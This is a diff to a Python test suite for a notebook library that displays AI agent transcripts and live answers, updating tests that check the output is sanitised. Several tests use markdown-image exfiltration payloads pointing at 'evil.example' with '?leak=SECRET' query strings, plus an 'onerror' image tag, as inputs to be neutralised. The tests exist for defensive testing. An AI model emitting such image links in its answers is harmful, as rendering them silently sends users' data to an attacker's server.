@@ -33,6 +33,11 @@ def _block(tool, args, *, status, call_id="", capability=None, result=None, dura
     return display.tool_block(ToolCall(tool, capability, args, result, call_id, status, reason, duration_s, redactions))
 
 
+def _attributes(html: str) -> str:
+    """Every attribute value in ``html``: where a fetch or a script would hide."""
+    return " ".join(value for _, value in re.findall(r'([\w-]+)="([^"]*)"', html))
+
+
 def _summaries(html: str) -> list[str]:
     return [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<summary[^>]*>(.*?)</summary>", html, re.S)]
 
@@ -129,7 +134,10 @@ def test_result_html_is_a_static_transcript_with_expandable_tool_calls():
     summaries = [s for s in _summaries(html) if s.startswith("echo(")]
     assert [s.split("→ ")[1].split(" ")[0] for s in summaries] == ["ok", "error", "denied"]
     assert "reason: not that one" in html
-    assert "ERROR: boom happened" in html
+    assert "ERROR: ValueError: boom happened" in html  # what the model read: the exception as Python names it
+    traceback = re.search(r"TRACEBACK</summary><pre[^>]*>(.*?)</pre>", html, re.S).group(1)
+    assert "Traceback (most recent call last)" in traceback and 'raise ValueError(&quot;boom happened&quot;)' in traceback
+    assert "capability.py" not in traceback  # the tool's own frames, not the loop's
     assert "All <strong>done</strong>" in html and "Let me try." in html  # answers as Markdown, as live
     assert "system prompt" in html  # collapsed, first
     assert "cost " in html and "2 requests" in html
@@ -141,14 +149,14 @@ def test_transcript_answers_render_markdown_without_images_or_raw_html():
     result = _agent(Scripted([answer])).run("go")
     html = display.result_html(result)
     assert "<li><strong>a</strong></li>" in html
-    assert "<img" not in html and "javascript" not in html.lower()
-    assert '!<a href="https://evil.example/?leak=1">x</a>' in html  # a link nobody fetches until clicked
-    assert "if a&lt;b: pass" in html
+    assert not re.search(r"<img(?![^>]*src=\"data:image/)", html) and "javascript:" not in _attributes(html)
+    assert "[image: x &lt;https://evil.example/?leak=1&gt;]" in html  # shown as text, never fetched
+    assert "&lt;img src=y onerror=z&gt;" in html and "if a&lt;b: pass" in html
 
 
 def test_result_html_says_when_a_run_stopped_early():
     result = _agent(Scripted([[("echo", {"text": "a"})]] * 3)).run("loop", max_steps=2)
-    assert "stopped early: hit max_steps (2)" in display.result_html(result)
+    assert "hit max_steps (2)</span>" in display.result_html(result)
 
 
 def test_session_html_shows_every_turn_and_the_totals():
@@ -209,8 +217,9 @@ def test_live_view_streams_then_shows_markdown_tools_and_usage():
     final_activity = activity.bundles[-1]["text/html"]
     assert "Checking." in final_activity  # the text before a tool call stays in the flow
     assert "echo(text=&quot;&lt;b&gt;&quot;)" in final_activity and "→ <span" in final_activity
-    assert "⏳" not in final_activity  # transient status lines are gone at the end
-    assert answer.bundles[-1] == {"text/markdown": "The answer is **42**.", "text/plain": "The answer is **42**."}
+    assert "bettong-status" not in final_activity  # transient status lines are gone at the end
+    assert answer.bundles[-1]["text/plain"] == "The answer is **42**."
+    assert "The answer is <strong>42</strong>." in answer.bundles[-1]["text/html"]  # rendered here, sanitised
     streamed = [b.get("text/plain") for b in answer.bundles if "text/html" in b and b["text/plain"]]
     assert streamed and all("The answer is **42**.".startswith(s) or s == "Checking." for s in streamed)
     assert footer.bundles[-1]["text/plain"] == "2 requests 14 tokens (10 in, 4 out) · cost $0.000014"
@@ -257,7 +266,7 @@ def test_live_view_throttles_a_long_stream():
     answer = recorder.handles[1]
     assert settled == "".join(pieces)
     assert len(answer.bundles) < 20  # 10,000 deltas, a handful of updates
-    assert answer.bundles[-1]["text/markdown"] == "".join(pieces)
+    assert answer.bundles[-1]["text/plain"] == "".join(pieces) and "bettong-markdown" in answer.bundles[-1]["text/html"]
 
 
 def test_live_view_notes_retries_warnings_and_failures():
@@ -265,19 +274,22 @@ def test_live_view_notes_retries_warnings_and_failures():
     view = display.LiveView(show=recorder.show, interval=0)
     view(events.Retry("deepseek", 1, 2.0, "HTTP 503"))
     view(events.CacheWarning("tools", "tools changed"))
-    view.fail("✘ ProviderError: down")
+    view.fail("ProviderError: down")
     html = recorder.handles[0].bundles[-1]["text/html"]
     assert "↻ deepseek: retry 1 in 2.0 s (HTTP 503)" in html and "⚠ tools changed" in html
-    assert recorder.handles[2].bundles[-1]["text/plain"] == "✘ ProviderError: down"
+    assert recorder.handles[2].bundles[-1]["text/plain"] == "ProviderError: down"
     view(events.TextDelta("late"))  # a closed view ignores stragglers
     assert recorder.handles[1].bundles[-1]["text/plain"] == ""
 
 
-def test_answers_render_without_remote_images_or_raw_html():
-    from bettong_nb.notebook.display import safe_markdown
-
-    answer = "See ![chart](https://evil.example/?leak=SECRET) and <img src=https://x/y>.\n```\nif a<b: print('![k](u)')\n```"
-    safe = safe_markdown(answer)
-    assert "\\![chart](https://evil.example/?leak=SECRET)" in safe, "an image becomes a link nobody fetches"
-    assert "&lt;img src=https://x/y>" in safe
-    assert "if a<b: print('![k](u)')" in safe, "code is left exactly as written"
+def test_the_live_answer_is_rendered_here_and_sanitised():
+    """The answer goes to the frontend as HTML made by the real Markdown parser and allow-listed,
+    not as Markdown a frontend would render with remote images."""
+    answer = ("See ![chart](https://evil.example/?leak=SECRET) and <img src=https://x/y>.\n"
+              "`one backtick opens `` ![k](https://evil.example/k) ``\n```\nif a<b: print('![k](u)')\n```")
+    recorder, view, result = _live(Scripted([answer]))
+    final = recorder.handles[1].bundles[-1]
+    assert "text/markdown" not in final and final["text/plain"] == answer
+    html = final["text/html"]
+    assert not re.search(r"<img(?![^>]*src=\"data:image/)", html) and "evil.example" not in _attributes(html)
+    assert "if a&lt;b: print(&#x27;![k](u)&#x27;)" in html or "if a&lt;b: print('![k](u)')" in html
